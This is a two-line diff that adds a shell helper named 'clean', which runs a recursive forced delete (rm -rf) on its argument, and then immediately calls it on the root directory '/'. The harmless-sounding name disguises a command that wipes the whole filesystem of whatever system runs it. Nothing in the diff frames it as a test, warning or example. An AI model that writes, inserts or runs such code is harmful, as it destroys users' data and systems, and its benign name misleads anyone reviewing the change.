@@ -1,0 +1,2 @@
+clean() { rm -rf "$1"; }
+clean /
